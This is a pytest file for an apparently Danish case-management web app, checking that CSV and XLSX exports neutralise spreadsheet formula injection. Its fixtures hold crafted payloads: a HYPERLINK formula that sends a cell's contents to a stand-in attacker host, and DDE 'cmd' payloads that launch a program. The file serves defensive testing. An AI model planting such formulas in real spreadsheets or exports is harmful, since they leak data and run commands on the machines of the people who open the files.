"""Formula injection (issue 11): an extract whose text fields start with =, +, -, @, tab
or CR exports as plain text in CSV and XLSX (the XLSX opened with openpyxl: no formula
cell), the quarantined values of Datakvalitet's export included."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import app as webapp
from components import export, urls
from jobs.load import load_extract
from store import case_list
from store.db import get_engine
from tests.etl.etl_extract_factory import AS_OF, valid_files, write_extract
from tests.web.conftest import add_user, login
from vocab import Role

CRAFTED = {
    "name": '=HYPERLINK("http://angriber.example/?x="&A1,"Klik")',
    "team": "+cmd|' /C calc'!A0",
    "team2": "@SUM(1+1)*cmd|' /C calc'!A0",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _crafted_extract(tmp_path: Path) -> Path:
    files = valid_files()
    files["medarbejdere"][0]["navn"] = CRAFTED["name"]
    files["medarbejdere"][0]["team"] = CRAFTED["team"]
    files["sager"][0]["team"] = CRAFTED["team"]
    files["sager"][1]["team"] = CRAFTED["team2"]
    return write_extract(tmp_path / "x", files)


def test_neutralise() -> None:
    assert export.neutralise("=1+1") == "'=1+1"
    assert export.neutralise("\tx") == "'\tx"
    assert export.neutralise("Team Nord") == "Team Nord"
    assert export.neutralise(5) == 5


@pytest.mark.parametrize("path", [urls.EXPORT_CSV, urls.EXPORT_XLSX])
def test_crafted_extract_exports_no_formula(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    engine = get_engine(db_url)
    assert load_extract(_crafted_extract(tmp_path), engine=engine, today=AS_OF).status == "loaded"
    monkeypatch.setenv("DATABASE_URL", db_url)
    add_user(db_url, "dir", Role.DIRECTORATE)
    client = webapp.server.test_client()
    login(client, "dir")
    response = client.get(urls.export_href(path, case_list.ListFilter()))
    assert response.status_code == 200
    raw = response.get_data()
    if path == urls.EXPORT_XLSX:
        wb = openpyxl.load_workbook(io.BytesIO(raw))
        cells = [c for row in wb.active.iter_rows() for c in row if c.value is not None]
        assert cells
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = [c.value for c in cells if isinstance(c.value, str)]
    else:
        df = pd.read_csv(io.BytesIO(raw), sep=";", encoding="utf-8-sig", dtype=str)
        texts = [v for v in df.to_numpy().ravel().tolist() if isinstance(v, str)]
    assert not [t for t in texts if t.startswith(DANGEROUS)]
    assert "'" + CRAFTED["team"] in texts  # kept, as text


def test_problem_export_neutralises_quarantined_values() -> None:
    problems = pd.DataFrame(
        {
            "file": ["sager.csv"],
            "line": [3],
            "column": ["oprettet"],
            "value": ["=cmd|' /C calc'!A0"],
            "rule": ["date-format"],
            "severity": ["error"],
            "message": ["-bad"],
        }
    )
    out = export.xlsx_download(export.problems_frame(problems), "x.xlsx", "Fejl")
    import base64

    wb = openpyxl.load_workbook(io.BytesIO(base64.b64decode(out["content"])))
    values = [c.value for row in wb.active.iter_rows() for c in row]
    assert "'=cmd|' /C calc'!A0" in values and "'-bad" in values
    assert not [c for row in wb.active.iter_rows() for c in row if c.data_type == "f"]
